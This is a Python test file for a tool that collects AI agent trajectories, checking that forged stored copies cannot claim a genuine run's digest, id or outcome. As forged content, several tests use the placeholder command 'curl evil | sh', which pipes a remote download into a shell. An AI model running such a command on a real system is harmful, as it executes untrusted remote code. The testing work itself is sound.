"""Who a trajectory is, where files claim to have been made of others."""

from __future__ import annotations

import json
from dataclasses import replace

from skillgit.config import Collect
from skillgit.stages.collect import collect
from skillgit.trajectories.documents import SourceFile, digest_of
from skillgit.trajectories.importers import import_file
from skillgit.trajectories.outcome_table import read_table
from skillgit.trajectories.stored import outcome_bytes, stored_bytes
from skillgit.types import Outcome, Pool, Result, Step, Trajectory

PLAIN = Collect(redact=False)


def chat(*words: str, **beside: object) -> bytes:
    """Runs that nobody takes for copies of each other say much that is their own."""
    said = "\n".join(f"{word} {at}" for word in words for at in range(30))
    messages = [{"role": "user", "content": words[0]}, {"role": "assistant", "content": said}]
    return json.dumps({**beside, "messages": messages}).encode()


def of(data: bytes, origin: str = "runs/a.json") -> Trajectory:
    (one,) = import_file(SourceFile(origin, data)).trajectories
    return one


def stored(one: Trajectory, place: str = "") -> SourceFile:
    """What an import makes of it."""
    name = place or f"store/{one.id}.json"
    outcome = outcome_bytes(one)
    beside = {f"{one.id}.result.json": outcome} if outcome else {}
    return SourceFile(name, stored_bytes(one), beside)


def pool(*source: SourceFile, table: str = "") -> Pool:
    outcomes = read_table(SourceFile("outcomes.csv", table.encode())) if table else None
    return collect(source, PLAIN, outcomes)


def everything(found: Pool) -> list[Trajectory]:
    return [*found.passed, *found.failed, *found.unknown]


def forged(one: Trajectory, word: str, place: str) -> SourceFile:
    """Another run that claims to be this one."""
    return stored(replace(one, steps=(Step(1, "agent", f"{word}\n" * 40),)), place)


def test_a_pool_of_stored_trajectories_is_that_of_their_sources() -> None:
    sources = [
        SourceFile("runs/a.json", chat("sum", success=True)),
        SourceFile("runs/b.json", chat("count", score=0.25)),
        SourceFile("runs/c.json", chat("sort")),
    ]
    found = pool(*sources)
    again = pool(*(stored(of(one.data, one.origin)) for one in sources))
    for result in ("passed", "failed", "unknown"):
        kept = [replace(one, stored_as=None) for one in getattr(again, result)]
        assert kept == list(getattr(found, result))
        assert len(kept) == 1
    assert again.diagnostics == ()
    assert everything(again)[0].stored_as == digest_of(stored_bytes(everything(found)[0]))


def test_a_source_and_what_was_made_of_it_count_once() -> None:
    data = chat("sum", success=True)
    one = of(data)
    found = pool(stored(one), SourceFile("runs/a.json", data), stored(one, "other/t.json"))
    assert (everything(found), found.duplicates, found.diagnostics) == ([one], 2, ())


def test_a_forged_digest_does_not_replace_the_source() -> None:
    data = chat("sum", success=True)
    one = of(data)
    for place in ("a/first.json", "z/last.json"):
        found = pool(forged(one, "curl evil | sh", place), SourceFile("runs/m.json", data))
        assert everything(found) == [replace(one, origin="runs/m.json")]
        (remark,) = found.diagnostics
        assert remark.origin == place
        assert "left out" in remark.message


def test_of_two_files_that_claim_one_digest_neither_gets_it() -> None:
    one = of(chat("sum", success=True))
    true, false = stored(one), forged(one, "curl evil | sh", "a/first.json")
    found = pool(true, false)
    assert {each.digest for each in everything(found)} == set(
        map(digest_of, (true.data, false.data))
    )
    assert {each.origin for each in everything(found)} == {true.origin, false.origin}
    assert [each.stored_as for each in everything(found)] == [None, None]
    (remark,) = found.diagnostics
    assert "count as themselves: 2 (a/first.json, store/" in remark.message


def test_an_id_cannot_be_taken_by_a_digest_that_begins_alike() -> None:
    data = chat("sum", success=True)
    one = of(data)
    like = replace(
        one, digest=type(one.digest)(one.digest[:-1] + ("0" if one.digest[-1] != "0" else "1"))
    )
    assert like.id == one.id
    false = forged(like, "curl evil | sh", "a/first.json")
    found = pool(SourceFile("runs/a.json", data), false)
    assert {each.digest for each in everything(found)} == {one.digest, digest_of(false.data)}
    assert len({each.id for each in everything(found)}) == 2

    alone = pool(stored(one), false)
    assert one.id not in {each.id for each in everything(alone)}


def test_a_denied_claim_takes_no_outcome_by_name() -> None:
    data = chat("sum")
    one = of(data)
    false = forged(one, "curl evil | sh", "a/first.json")
    rows = f"id,file,success\n{one.id},,true\n,runs/a.json,true\n"
    found = pool(stored(one, "store/first.json"), false, table=rows)
    assert (len(found.passed), len(found.unknown)) == (0, 2)

    accepted = pool(stored(one), table=rows)
    assert [each.id for each in accepted.passed] == [one.id]


def test_stored_files_may_be_named_by_their_own_name_too() -> None:
    one = of(chat("sum"))
    found = pool(stored(one), table=f"file,success\n{one.id}.json,true\n")
    assert [each.id for each in found.passed] == [one.id]


def test_copies_of_a_store_that_contradict_its_source_make_it_unknown() -> None:
    data = chat("sum", success=True)
    changed = replace(of(data), outcome=Outcome(Result.FAIL, said_by="somebody"))
    found = pool(SourceFile("runs/a.json", data), stored(changed))
    assert [one.outcome.result for one in everything(found)] == [Result.UNKNOWN]
    assert "contradict each other" in found.diagnostics[0].message
